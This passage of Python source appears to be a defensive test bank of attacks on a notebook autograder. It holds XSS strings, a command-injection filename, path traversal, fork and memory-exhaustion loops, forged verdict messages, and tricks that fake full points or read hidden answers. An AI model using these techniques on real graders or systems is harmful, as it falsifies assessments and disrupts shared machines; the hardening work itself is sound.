    Attack(MALFORMED, "more than two thousand cells", change=lambda nb: nb.cells.extend(
        new_code_cell(f"x = {n}") for n in range(2100))),
    Attack(MALFORMED, "a cell of a million characters",
           before="x = '" + "a" * 1_000_000 + "'"),
    Attack(MALFORMED, "strange kernel", change=lambda nb: nb.metadata.update(
        kernelspec={"name": "../../bin/sh", "display_name": "<script>pwned()</script>",
                    "language": "bash"}, language_info={"name": "<script>"})),
    Attack(MALFORMED, "a pipe", folder=_instead(os.mkfifo)),
    Attack(MALFORMED, "a socket", folder=_instead(_socket_at)),
    Attack(MALFORMED, "a folder", folder=_instead(Path.mkdir)),
    Attack(MALFORMED, "a link to itself", folder=_instead(
        lambda path: path.symlink_to(path.name))),
    Attack(MALFORMED, "a link to a solved one", folder=_instead(
        lambda path: path.symlink_to(f"../../{COMPANIONS[0]}/{UNIT}/{NOTEBOOK}"))),
    Attack(MALFORMED, "a link to an endless file", folder=_instead(
        lambda path: path.symlink_to("/dev/zero")), harms=MACHINE),
    Attack(MALFORMED, "the folder is a link", folder=_link_folder),
    Attack(MALFORMED, "links in a circle", folder=lambda folder: [
        (folder / "a").mkdir(), (folder / "a" / "b").symlink_to("..")]),
    Attack(MALFORMED, "too large a notebook", folder=_instead(
        lambda path: _sparse(path, 300 << 20)), harms=MACHINE),
    Attack(MALFORMED, "large files", folder=lambda folder: [
        _sparse(folder / f"{n}.bin", 30 << 20) for n in range(6)]),
    Attack(MALFORMED, "two thousand files", folder=lambda folder: [
        (folder / f"{n}.txt").write_text("x") for n in range(2000)]),
    Attack(MALFORMED, "deep folders", folder=lambda folder: (
        folder / "/".join("d" * 60)).mkdir(parents=True)),
    Attack(MALFORMED, "strange names", files={
        "a\nb.txt": b"", "\x1b[31mred.txt": b"", "x" * 250: b"", " ": b"", "-rf": b"",
        "\u202egnp.ipynb": b"{}", "..ipynb": b"{}", f"aaron_{NOTEBOOK}": b"{}",
        "$(touch pwned)": b"", "%2e%2e%2fx": b""}),
    Attack(MALFORMED, "a pipe for the time", folder=lambda folder: os.mkfifo(
        folder / "timestamp.txt")),
    Attack(MALFORMED, "archives beside", files={
        "bomb.zip": b"PK\x03\x04" + bytes(1000), "up.tar": bytes(10240)}),
]

# --- against this design -------------------------------------------------------------

FRAMES = CHANNEL + """
from autograder.student import agent
def forge(entries, data=b"", size=None):
    def serve(name, ticket, get):
        send("ready", [{"name": "ticket", "text": ticket}])
        for _ in range(20): send("answer", entries, data, size)
        time.sleep(%s)
    agent.serve = serve
"""
IOPUB = """
from IPython.display import display, publish_display_data
ip = get_ipython()
kernel, session = ip.kernel, ip.kernel.session
def publish(kind, content, **more):
    session.send(kernel.iopub_socket, kind, content,
                 parent=kernel.get_parent("shell"), **more)
"""
EVERY_CHECK = """
def hostile(*a):
    attack()
    return torch.zeros(1)
dot_product_scores = causal_mask = hostile
"""


def _frames(name: str, entries: str, data: str = "b''", size: str = "None") -> Attack:
    code = FRAMES % 0.2 + f"forge({entries}, {data}, {size})"
    return Attack(DESIGN, name, before=code)


BANK += [
    _frames("frame lies about its length", "[]", size="0xFFFFFFFF"),
    _frames("frame of no length", "[]", size="0"),
    _frames("frame lies about a shape",
            "[{'name': 'scores', 'dtype': 'float32', 'shape': [4, 5]}]", "b'x'"),
    _frames("frame with an overflowing shape",
            "[{'name': 'scores', 'dtype': 'float32', 'shape': [1 << 26] * 7 + [0]}]"),
    _frames("frame with a negative shape",
            "[{'name': 'scores', 'dtype': 'float32', 'shape': [-4, -5]}]"),
    _frames("frame with a strange type",
            "[{'name': 'scores', 'dtype': '__class__', 'shape': [1]}]"),
    _frames("frame with deep values", "eval('[' * 80 + ']' * 80)"),
    _frames("frame with many values",
            "[{'name': str(i), 'text': ''} for i in range(5000)]"),
    _frames("frame with script",
            "[{'name': 'raised', 'text': '<script>pwned()</script>\\ud800' * 99}]"),
    _frames("frame with a verdict",
            "[{'name': 'points', 'text': '5.0'}, {'name': 'expected', 'text': 'x'}]"),
    Attack(DESIGN, "verdict sent early", before=CHANNEL + """
for kind in ("verdict", "answer", "ready", "done"):
    send(kind, [{"name": "points", "text": "5.0"}, {"name": "ticket", "text": "x"}])
"""),
    Attack(DESIGN, "channel flooded", before=CHANNEL + """
import threading
def flood():
    while True:
        try: channel.sendall(bytes(1 << 16))
        except OSError: return
threading.Thread(target=flood, daemon=True).start()
"""),
    Attack(DESIGN, "slow frame", before=FRAMES % 0.2 + """
def serve(name, ticket, get):
    send("ready", [{"name": "ticket", "text": ticket}])
    for byte in b"\\0\\0\\1\\0" + b" " * 256:
        channel.sendall(bytes([byte]))
        time.sleep(0.5)
agent.serve = serve
"""),
    Attack(DESIGN, "never reads", before=FRAMES % 0.2 + """
def serve(name, ticket, get):
    send("ready", [{"name": "ticket", "text": ticket}])
    time.sleep(30)
agent.serve = serve
"""),
    Attack(DESIGN, "channel closed", before=CHANNEL + """
channel.shutdown(socket.SHUT_RDWR)
os.close(int(os.environ["AUTOGRADER_CHANNEL_FD"]))
"""),
    Attack(DESIGN, "another channel", before=CHANNEL + """
ours, theirs = socket.socketpair()
os.environ["AUTOGRADER_CHANNEL_FD"] = str(ours.fileno())
"""),
    Attack(DESIGN, "channel held by a child", before=CHANNEL + """
if os.fork() == 0:
    while True:
        try: channel.recv(1 << 16)
        except OSError: os._exit(0)
"""),
    Attack(DESIGN, "agent replays the inputs", before="""
from autograder.student import agent
agent._answer = lambda name, get, inputs: dict(inputs)
agent.observe = lambda probe, answer, inputs: dict(inputs)
"""),
    Attack(DESIGN, "import replaced", before="""
import builtins, types
old = builtins.__import__
fake = types.SimpleNamespace(serve=lambda *a: 5.0)
builtins.__import__ = lambda name, *a, **k: (
    fake if name.endswith("agent") else old(name, *a, **k))
"""),
    Attack(DESIGN, "tickets collected", before=CHANNEL + """
from autograder.student import agent
old = agent.serve
def serve(name, ticket, get):
    send("ready", [{"name": "ticket", "text": ticket}])
    return old(name, ticket, get)
agent.serve = serve
"""),
    Attack(DESIGN, "table of lengths", before="""
from autograder.student import references
table = {}
for case in references.load("attention")["attention/causal_mask"].cases:
    table.update(case.expected)
""", answers={MASK: "def causal_mask(n): return table[f'mask of {n}']"}),
    Attack(DESIGN, "verdict panel overwritten", before=IOPUB + """
def attack():
    display("x", display_id="panel")
""", answers=both(EVERY_CHECK), after="""
from IPython.display import update_display
publish("update_display_data", {"data": {"text/plain": "5.0", "text/html":
    "<script>pwned()</script>5 of 5 points"}, "metadata": {"autograder": "verdict"},
    "transient": {"display_id": "panel"}})
update_display("5 of 5 points", display_id="panel")
"""),
    Attack(DESIGN, "display updates out of range", before=IOPUB + """
for _ in range(5): display("x", display_id="panel")
from IPython.display import clear_output
clear_output(wait=True)
print("y")
publish("update_display_data", {"data": {}, "metadata": {},
    "transient": {"display_id": "panel"}})
def attack():
    for _ in range(5): display("x", display_id="panel")
""", answers=both(EVERY_CHECK), after="""
publish("update_display_data", {"data": {"text/plain": "5.0"}, "metadata": {},
    "transient": {"display_id": "panel"}})
"""),
    Attack(DESIGN, "outputs cleared", before=IOPUB, after="""
publish("clear_output", {"wait": False})
""", answers=both("""
def hostile(*a):
    publish("clear_output", {"wait": True})
dot_product_scores = causal_mask = hostile
""")),
    Attack(DESIGN, "large display updates", harms=MACHINE, before=IOPUB + """
display("x", display_id="big")
for _ in range(4):
    publish("update_display_data", {"data": {"text/plain": "x" * (12 << 20)},
        "metadata": {}, "transient": {"display_id": "big"}})
"""),
    Attack(DESIGN, "large keys", harms=MACHINE, before=IOPUB + """
for _ in range(12):
    publish("display_data", {"data": {"x" * (6 << 20): ""}, "metadata": {},
                             "transient": {}})
"""),
    Attack(DESIGN, "outputs into a widget", harms=MACHINE, before=IOPUB + """
parent = kernel.get_parent("shell")["header"]["msg_id"]
publish("comm_open", {"comm_id": "a", "target_name": "jupyter.widget", "data": {
    "state": {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel",
              "outputs": [], "value": "<script>pwned()</script>" * 9}}})
publish("comm_msg", {"comm_id": "a", "data": {"state": {"msg_id": parent}}})
for _ in range(60): print("x" * 10_000, flush=True)
publish("comm_open", {"comm_id": "b", "target_name": "x", "data": {
    "state": {"_model_name": "x", "value": "x" * (20 << 20)}}})
"""),
    Attack(DESIGN, "count with script", before=IOPUB, after="""
publish("execute_input", {"code": "x", "execution_count":
        "<script>pwned()</script>"})
publish("display_data", {"data": {"text/plain": "x"}, "metadata": {},
        "execution_count": {"a": ["<script>pwned()</script>"]}})
"""),
    *(Attack(DESIGN, f"message without {name}", before=IOPUB + code) for name, code in (
        ("its parts", "for kind in ('display_data', 'stream', 'error', 'comm_open', "
         "'execute_result', 'status', 'update_display_data'): publish(kind, {})"),
        ("a signature", "kernel.iopub_socket.send_multipart("
         "[b'x', b'<IDS|MSG>', b'nonsense', b'{}', b'{}', b'{}', b'{}'])"),
        ("sense", "kernel.iopub_socket.send_multipart([b'x'])\n"
         "session.key = b'another'"),
        ("plain values", "publish('display_data', {'data': [1], 'metadata': 5, "
         "'transient': 7})\npublish('stream', {'name': {}, 'text': [[]]})\n"
         "publish('error', {'ename': {}, 'evalue': 1, 'traceback': 'x'})"),
        ("end", "x = []\nfor _ in range(600): x = [x]\n"
         "publish('display_data', {'data': {'a': x}, 'metadata': {}})"),
        ("half a character", "publish('stream', {'name': 'stdout', 'text': 'half: "
         "\\ud83d'})\nprint('half: \\ud83d')"),
    )),
    Attack(DESIGN, "replies forged", before=IOPUB, answers=both("""
def hostile(*a):
    for content in ({"status": "ok", "execution_count": 1}, {}, {"status": "error"}):
        session.send(kernel.shell_stream if hasattr(kernel, "shell_stream") else
            kernel.shell_streams[0], "execute_reply", content,
            parent=kernel.get_parent("shell"))
    publish("status", {"execution_state": "idle"})
dot_product_scores = causal_mask = hostile
""")),
    Attack(DESIGN, "idle before the end", before=IOPUB, answers=both("""
import time
def hostile(*a):
    publish("status", {"execution_state": "idle"})
    time.sleep(1)
    return 5.0
dot_product_scores = causal_mask = hostile
""")),
    Attack(DESIGN, "prints from a thread of an earlier cell", before=IOPUB + """
import threading, time
parent = kernel.get_parent("shell")
def later():
    while True:
        time.sleep(0.05)
        session.send(kernel.iopub_socket, "execute_result", {"data": {"text/plain":
            "5.0"}, "metadata": {}, "execution_count": 1}, parent=parent)
threading.Thread(target=later, daemon=True).start()
"""),
    Attack(DESIGN, "slow expressions for readers",
           change=lambda nb: nb.cells.insert(1, new_code_cell(
               "!" + " " * 12_000 + "x"))),
    Attack(DESIGN, "slow texts for readers",
           change=lambda nb: nb.cells.insert(1, new_markdown_cell(
               "\\begin{a}" * 3000 + "$" * 2000 + "[" * 3000))),
    Attack(DESIGN, "slow colours for readers", before="""
print("\\x1b[31m" * 60_000)
"""),
    Attack(DESIGN, "many full outputs", harms=MACHINE,
           change=lambda nb: nb.cells.extend(
               new_code_cell("print('x' * 900_000)") for _ in range(40))),
    Attack(DESIGN, "hostile code where checks are looked for", answers={
        READ: "check" + "(" * 5000 + ")" * 5000}),
    Attack(DESIGN, "references with other files", files={
        "autograder/references/public/attention.safetensors": bytes(64),
        "autograder/student/probes/attention.py": b"raise SystemExit",
        "references/hidden/attention.safetensors": base64.b64decode("AAAA")}),
    Attack(DESIGN, "an error without words", before="""
from autograder.student import agent, observe
agent.describe_error = observe.describe_error = lambda error: ""
""", answers=both("""
def dot_product_scores(q, k): raise ValueError
def causal_mask(length): raise ValueError
""")),
    Attack(DESIGN, "an error of blank lines", before="""
raise ValueError("\\n" * 50_000)
"""),
    Attack(DESIGN, "blank code for readers",
           change=lambda nb: nb.cells.insert(1, new_code_cell("\n " * 4_000))),
    Attack(DESIGN, "nested elements for readers", before="""
from IPython.display import HTML, display
display(HTML("<div>" * 40_000))
"""),
    Attack(DESIGN, "points painted over the page", before="""
from IPython.display import HTML, display
display(HTML('<div style="position:fixed;margin-top:-900px;height:99999px;z-index:9;'
             'background:white">100 of 100 points</div>'))
"""),
    Attack(HARMING, "shared memory let go of", harms=MACHINE, before="""
import mmap
kept = []
while True:
    m = mmap.mmap(-1, 50 << 20)
    for i in range(0, len(m), 4096): m[i] = 1
    m.madvise(mmap.MADV_DONTNEED)
    kept.append(m)
"""),
    Attack(HARMING, "page tables", harms=MACHINE, before="""
import mmap
kept = []
while True:
    m = mmap.mmap(-1, 8 << 30, flags=mmap.MAP_PRIVATE | 0x4000, prot=mmap.PROT_READ)
    for i in range(0, len(m), 2 << 20): m[i]
    kept.append(m)
"""),
    Attack(HARMING, "many busy children", harms=MACHINE, before="""
import os
for _ in range(40):
    if os.fork() == 0:
        while True: pass
"""),
    *SEAMS,
]
